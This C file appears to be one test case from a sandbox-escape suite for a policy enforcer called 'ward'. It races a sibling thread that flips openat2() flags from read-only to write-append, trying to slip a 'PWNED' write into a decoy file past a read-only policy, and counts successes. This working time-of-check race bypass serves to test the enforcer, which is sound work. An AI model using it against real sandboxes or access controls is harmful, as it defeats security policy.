/* R09: openat2() on a file the policy lets the code read but not write
 * (the decoy, mode 0666: only ward stands in the way); a sibling thread
 * flips open_how.flags between O_RDONLY and O_WRONLY|O_APPEND. A win is a
 * write that lands in the file. */
#include "escape.h"
#include <linux/openat2.h>

static struct open_how how;

static void to_bad(void *unused)
{
	(void)unused;
	how.flags = O_WRONLY | O_APPEND;
}

static void to_good(void *unused)
{
	(void)unused;
	how.flags = O_RDONLY;
}

int attack(int argc, char **argv)
{
	static struct racer r = { .bad = to_bad, .good = to_good };
	const char *path = ARG("decoy");
	pthread_t t;
	long w = 0, i;

	how.flags = O_RDONLY;
	/* one plain attempt with the bad value first: the denial the record
	 * must show, whatever the race does (escape.h, "The racer") */
	to_bad(NULL);
	{
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how,
				      sizeof(how));
		if (fd >= 0) {
			w += write(fd, "PWNED\n", 6) == 6;
			close(fd);
		}
	}
	to_good(NULL);
	pthread_create(&t, NULL, racer_thread, &r);
	for (i = 0; i < RACE_N; i++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how,
				      sizeof(how));
		if (fd >= 0) {
			w += write(fd, "PWNED\n", 6) == 6;
			close(fd);
		}
	}
	racer_stop(&r);
	pthread_join(t, NULL);
	wins(w, i);
	return 0;
}
